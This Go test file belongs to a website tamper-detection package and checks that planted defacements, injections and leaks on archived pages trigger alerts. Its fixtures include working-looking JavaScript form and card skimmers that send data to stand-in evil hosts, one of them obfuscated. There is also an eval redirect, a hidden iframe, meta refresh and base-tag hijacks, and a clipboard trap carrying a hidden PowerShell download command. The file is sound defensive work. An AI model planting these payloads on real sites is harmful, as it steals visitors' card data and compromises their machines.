package compare

import (
	"fmt"
	"strings"
	"testing"
)

// attack is one thing done to a page's HTML, and what must come of it.
type attack struct {
	name string
	kind Kind
	do   func(page string) string
}

// into inserts a fragment before the first of the given places that the page has.
func into(fragment string, places ...string) func(string) string {
	return func(page string) string {
		for _, p := range places {
			if i := strings.Index(page, p); i >= 0 {
				return page[:i] + fragment + page[i:]
			}
		}
		return page + fragment
	}
}

// middle inserts a fragment after the closing tag nearest to the middle.
func middle(fragment string) func(string) string {
	return func(page string) string {
		half := len(page) / 2
		for _, tag := range []string{"</p>", "</li>", "</div>", "</td>"} {
			if i := strings.Index(page[half:], tag); i >= 0 {
				i += half + len(tag)
				return page[:i] + fragment + page[i:]
			}
		}
		return page + fragment
	}
}

func whole(title, body string) func(string) string {
	return func(string) string {
		return "<html><head><title>" + title + "</title></head><body bgcolor=black text=lime><center>" + body + "</center></body></html>"
	}
}

func retitled(title string) func(string) string {
	return func(page string) string {
		i, j := strings.Index(page, "<title"), strings.Index(page, "</title>")
		if i < 0 || j < i {
			return into("<title>"+title+"</title>", "</head>")(page)
		}
		return page[:i] + "<title>" + title + page[j:]
	}
}

// identities makes a table of n obviously made-up numbers.
func identities(n int) string {
	var b strings.Builder
	b.WriteString("<table><tr><th>Name</th><th>CNIC</th></tr>")
	for i := range n {
		fmt.Fprintf(&b, "<tr><td>Applicant %d</td><td>3520%d-%07d-%d</td></tr>", i, i%10, 1000000+7919*i, i%10)
	}
	return b.String() + "</table>"
}

const inlineSkimmer = `<script>(function(){var f=document.querySelectorAll('input,select,textarea');function g(){var d={};
for(var i=0;i<f.length;i++){d[f[i].name]=f[i].value}new Image().src='https://cdn-stat.example-evil.top/c.gif?d='+btoa(JSON.stringify(d))}
document.addEventListener('submit',g,true)})();</script>`

const hiddenSkimmer = `<script>var _0x1a2b=['aHR0cHM6Ly9jZG4tc3RhdC5ldmlsLXBheS50b3AvYy9nYXRl','value','cardnumber','cvv'];
(function(_0x33aa,_0x44bb){var _0x55cc=document.getElementsByName(_0x33aa[2])[0].value+_0x33aa[3];var _0x66dd=new XMLHttpRequest();
_0x66dd.open('POST',atob(_0x33aa[0]));_0x66dd.send(_0x55cc)})(_0x1a2b,0x7f);</script>`

// attacks are inert imitations of what is done to sites. Crews are made up.
var attacks = []attack{
	{"full, black page", Defacement, whole("Hacked by QuietFox", "<h1>Hacked By QuietFox</h1><p>Greetz to: NullCrew ~ Fake1337 ~ Sandstorm</p>")},
	{"full, no telling word", Defacement, whole("~ Q F ~", "<img src=/q.jpg><p>the night is long and we are here, the foxes of the north</p>")},
	{"full, Urdu", Defacement, whole("ہیک", "<h1>یہ ویب سائٹ خاموش لومڑی نے ہیک کر لی ہے</h1><p>آپ کی سیکیورٹی صفر ہے</p>")},
	{"full, Arabic", Defacement, whole("تم", "<h1>تـم الإخـتـراق بواسطة فريق الثعلب</h1>")},
	{"block, English", Defacement, middle("<div><h2>H4ck3d By QuietFox</h2><p>your security is low admin</p></div>")},
	{"block, spelled", Defacement, middle("<div>H a c k e d &nbsp; b y &nbsp; Q u i e t F o x</div>")},
	{"block, homoglyphs", Defacement, middle("<div>Наcкеd bу QuietFox</div>")},
	{"block, Turkish", Defacement, middle("<div><h2>QuietFox tarafından hacklendi</h2></div>")},
	{"block, Indonesian", Defacement, middle("<div><b>Diretas oleh QuietFox</b></div>")},
	{"block, Hindi", Defacement, middle("<div><h2>QuietFox द्वारा हैक किया गया</h2></div>")},
	{"block, Bengali", Defacement, middle("<div><h2>QuietFox কর্তৃক হ্যাক করা হয়েছে</h2></div>")},
	{"block, Urdu", Defacement, middle("<div><p>یہ ویب سائٹ خاموش لومڑی کی طرف سے ہیک کر لی گئی ہے</p></div>")},
	{"block, Roman Urdu", Defacement, middle("<div><h2>QuietFox ne hack kar li hai</h2></div>")},
	{"block, Persian", Defacement, middle("<div><h2>هک شده توسط روباه آرام</h2></div>")},
	{"block, Chinese", Defacement, middle("<div><h2>本站已被黑客入侵 QuietFox</h2></div>")},
	{"block, Russian", Defacement, middle("<div><h2>Сайт взломан командой QuietFox</h2></div>")},
	{"block, Spanish", Defacement, middle("<div><h2>Hackeado por QuietFox</h2></div>")},
	{"title only", Defacement, retitled("Hacked by QuietFox | Home")},
	{"skimmer, inline", Injection, into(inlineSkimmer, "</body>", "</html>")},
	{"skimmer, obfuscated", Injection, into(hiddenSkimmer, "</body>", "</html>")},
	{"decoder", Injection, into(`<script>eval(String.fromCharCode(100,111,99,117,109,101,110,116,46,108,111,99,97,116,105,111,110,61,39,47,47,101,118,105,108,46,116,111,112,47,39))</script>`, "</body>", "</html>")},
	{"hidden link", Injection, into(`<div style="position:absolute;left:-9999px"><a href="https://slot-gacor-88.example-evil.top/">slot gacor hari ini</a></div>`, "</body>", "</html>")},
	{"spam in sight", Injection, into(`<p><a href="https://a.evil-one.top/">online casino</a> <a href="https://b.evil-two.top/">viagra</a> <a href="https://c.evil-three.top/">payday loans</a></p>`, "</body>", "</html>")},
	{"hidden frame", Injection, into(`<iframe src="https://gate.evil-kit.top/in.php" width="1" height="1" style="visibility:hidden"></iframe>`, "</body>", "</html>")},
	{"meta refresh", Injection, into(`<meta http-equiv="refresh" content="0; url=https://www.evil-land.top/">`, "</head>")},
	{"base", Injection, into(`<base href="https://evil-base.top/">`, "<title")},
	{"identity numbers", Leak, middle(identities(24))},
	{"SQL error", Leak, middle("<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</p>")},
	{"paste trap", Injection, into(`<div><p>Verify you are human. Press Windows Key + R, then press Ctrl + V and press Enter.</p></div>
		<script>navigator.clipboard.writeText("powershell -w hidden -c iwr evil-paste.top")</script>`, "</body>", "</html>")},
}

// Every attack on the next version of a real page alerts, although the page
// changes at the same time, and by a finding of the right kind.
func TestAttacksOnRealPages(t *testing.T) {
	sources := historySources(t)
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			caught, n := 0, 0
			for site, versions := range sources {
				i := len(versions) / 2
				b := baselines(t, site, versions[max(0, i-3):i])
				look := lookAt(t, versions[i].url, a.do(versions[i].html), versions[i].dir)
				look.View.Title = firstOf(look.View.Title, "")
				r := Compare(b, look, nil)
				n++
				if r.Verdict == Alert && r.Findings[0].Kind == a.kind {
					caught++
				} else {
					t.Errorf("%s: %s", site, describe(r))
				}
			}
			t.Logf("%d of %d", caught, n)
		})
	}
}
